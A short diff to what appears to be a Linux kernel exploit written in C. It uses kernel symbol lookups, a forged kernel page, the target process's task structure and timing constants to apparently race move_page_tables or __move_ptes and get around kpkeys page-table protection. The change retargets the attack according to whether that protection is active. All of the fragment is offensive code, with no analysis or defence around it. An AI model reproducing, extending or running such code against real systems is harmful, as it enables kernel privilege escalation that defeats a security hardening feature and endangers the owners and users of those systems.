@@ -19,7 +19,8 @@
 #include "list.h"
 #include "objects.h"
 
-#define MOVER		"move_page_tables"
+#define MOVER		"__move_ptes"	/* where page tables are protected */
+#define MOVER_WITHOUT	"move_page_tables"
 #define MOVER_SIZE	0x1000		/* at most */
 #define TASK_WORDS	2048		/* at most */
 #define SIGHAND_SIZE	1024		/* begins with the lock; has all handlers */
@@ -33,7 +34,7 @@
 #define HOLD		5		/* milliseconds */
 #define PATIENCE	50		/* likewise, for the mover to go on */
 #define LAST_LOOK	300000		/* microseconds */
-#define NR_SAVED	2		/* byte of kpkeys_cpu: interrupted sections */
+#define NR_SAVED	1		/* byte of kpkeys_cpu: interrupted sections */
 
 /* struct pt_regs, in words; and the bit by which nobody asks whose a page is ... */
 #ifdef __x86_64__
@@ -206,7 +207,7 @@ static bool find_target(pid_t pid, struct target *target)
 			return false;
 		target->table[i] = slot.slot & -PAGE_SIZE;
 	}
-	target->function = ksymbol(MOVER);
+	target->function = ksymbol(is_protected() ? MOVER : MOVER_WITHOUT);
 	target->state = ksymbol_cpu("kpkeys_cpu", MOVER_CPU);
 	if (!target->function || ktask(pid, &target->task) || !kernel_page(&target->forged))
 		return false;
